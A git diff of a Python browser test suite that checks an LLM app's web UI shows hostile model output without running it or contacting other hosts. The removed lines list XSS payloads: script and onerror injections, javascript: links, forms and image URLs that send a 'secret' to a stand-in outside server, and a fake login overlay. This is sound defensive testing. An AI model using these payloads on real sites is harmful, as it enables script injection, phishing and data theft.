@@ -9,58 +9,35 @@ from llmfirst.events import PHASES
 from llmfirst.ui.texts import TEXTS
 from tests.browser.conftest import Open, Serve
 from tests.browser.elsewhere import elsewhere
+from tests.browser.payloads import payloads, printable
 from tests.browser.served import endless
-from tests.scripted import END, ScriptedProvider
+from tests.scripted import END, Reply, ScriptedProvider
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
-_PAYLOADS = (
-    "<script>window.ran = 1</script>",
-    '<script src="{there}/script.js"></script>',
-    '<img src="x" onerror="window.ran = 1">',
-    '<img src="{there}/image.png?secret=1">',
-    "![a picture]({there}/markdown.png?secret=1)",
-    '<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>',
-    '<svg><use href="{there}/use.svg#a"/><image href="{there}/image.svg"/></svg>',
-    '<a href="javascript:window.ran = 1" id="link">a link</a>',
-    "[a link](javascript:window.ran=1)",
-    "<[a link](java\tscript:window.ran=1)>",
-    '<iframe src="{there}/frame.html" srcdoc="<script>parent.ran = 1</script>"></iframe>',
-    '<form action="{there}/form"><input name="secret" value="1"><button class="send">Send</button></form>',
-    '<form action="javascript:window.ran = 1"><button type="submit" class="send">Go</button></form>',
-    '<div style="position:fixed;inset:0;z-index:99999;background:white">Please log in</div>',
-    '<style>body {{ background: url("{there}/style.png") }} #ask {{ display: none }}</style>',
-    '<link rel="stylesheet" href="{there}/sheet.css">',
-    '<button id="ask" onclick="window.ran = 1">Ask</button><button id="stop">Stop</button>',
-    '<div id="question"><textarea>stolen</textarea></div><textarea id="run-id">forged</textarea>',
-    '<meta http-equiv="refresh" content="0;url={there}/refresh">',
-    '<base href="{there}/">',
-    "$$\\href{{javascript:window.ran=1}}{{x}}$$ $$\\includegraphics{{{there}/latex.png}}$$",
-    '<video src="{there}/video.mp4" autoplay></video><audio src="{there}/audio.mp3" autoplay></audio>',
-    '<object data="{there}/object"></object><embed src="{there}/embed">',
-    '<details open ontoggle="window.ran = 1">x</details><input autofocus onfocus="window.ran = 1">',
-    '<form action="/api/stream"><input name="question" value="again"><button class="send">Go</button></form>',
-    "![a picture](/api/stream?question=again)",
-    "```html\n</code></pre><script>window.ran = 1</script>\n```",
-    "<div style=\"background-image: url('{there}/background.png')\">x</div>",
-    '<math><mtext><style><img src="x" onerror="window.ran = 1"></style></mtext></math>',
-)
+_TO_A_PANEL = 4
 # What the browser says when it refuses, and images of this server that are none.
 _REFUSED = (
     "Content Security Policy|request to another origin: http://localhost|404 for |status of 40[34]|403 for .*/api/"
 )
 _SPRING = """() => document.querySelectorAll('.panel :is(.send, button, a, summary)').forEach((trap) => {
-  trap.removeAttribute('target'); trap.click(); })"""
+  trap.removeAttribute('target');
+  trap.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})); })"""
 
 
 def test_a_model_that_prints_hostile_text_runs_nothing_and_reaches_nobody(serve: Serve, visit: Open) -> None:
     with elsewhere() as there:
         urllib.request.urlopen(f"{there.url}/proof").close()
         assert there.asked.pop() == "/proof"
-        text = "\n\n".join(payload.format(there=there.url) for payload in _PAYLOADS)
-        pieces = [text[at : at + 30] for at in range(0, len(text), 30)]  # tags are seen half written
-        # A section that repeats an earlier one would be ended; the plan is no section.
-        rest = [f'Please log in <img src=x onerror="window.ran = {number}">' for number in (1, 2)]
-        replies = [[text, END], [*pieces, END], *[[one, END] for one in rest]]
+        # A few to a panel: some of them hide whatever comes after them.
+        texts = payloads(there.url)
+        panels = ["\n\n".join(texts[at : at + _TO_A_PANEL]) for at in range(0, len(texts), _TO_A_PANEL)]
+        asks = [panels[at : at + len(PHASES)] for at in range(0, len(panels), len(PHASES))]
+        replies: list[Reply] = []
+        for ask in asks:
+            for number, text in enumerate([*ask, *["nothing"] * (len(PHASES) - len(ask))]):
+                # Half written, tags are seen too.
+                pieces = [text] if number % 2 else [text[at : at + 30] for at in range(0, len(text), 30)]
+                replies.append([*pieces, END])
         served = serve(ScriptedProvider(*replies, ["plan", END], endless("word", 0.05)))
         page = visit(served.url)
         own_answers: list[tuple[str, int]] = []
@@ -75,17 +52,19 @@ def test_a_model_that_prints_hostile_text_runs_nothing_and_reaches_nobody(serve:
             page.forgive(_REFUSED)
             assert page.problems == []
 
-        page.ask("Print script tags.")
-        page.wait_for("#state", "Complete")
-        run_id = page.run_id()
-        for phase in PHASES:
-            expect(page.page.locator(f"#panel-{phase}")).to_contain_text("Please log in")
-        is_safe()
-        page.page.evaluate(_SPRING)
-        is_safe()
-        page.reload()
-        page.wait_for("#state", "Complete")
-        is_safe()
+        last = ""
+        for _ in asks:
+            page.ask("Print script tags.")
+            page.page.wait_for_function("(last) => location.search && location.search !== last", arg=last)
+            page.wait_for("#state", "Complete")
+            run_id = page.run_id()
+            last = f"?run={run_id}"
+            is_safe()
+            page.page.evaluate(_SPRING)
+            is_safe()
+            page.reload()
+            page.wait_for("#state", "Complete")
+            is_safe()
 
         page.page.locator("#asking #question textarea").fill("why?")
         page.page.keyboard.press("Control+Enter")
@@ -98,8 +77,9 @@ def test_a_model_that_prints_hostile_text_runs_nothing_and_reaches_nobody(serve:
 
 def test_why_this_answer_shows_the_calls_as_they_were_and_runs_nothing_of_them(serve: Serve, visit: Open) -> None:
     with elsewhere() as there:
-        payloads = [payload.format(there=there.url) for payload in _PAYLOADS]
-        core = "\n\n".join(["\n</pre></details>", *payloads, "${window.ran = 1}", "{{window.ran}}", "<!-- -->", "$&"])
+        core = "\n\n".join(
+            ["\n</pre></details>", *printable(there.url), "${window.ran = 1}", "{{window.ran}}", "<!-- -->", "$&"]
+        )
         page = visit(serve(ScriptedProvider(["plan", END], [core, END], ["a", END], ["b", END])).url)
         question = "<img src=x onerror='window.ran = 1'> why?"
         page.ask(question)
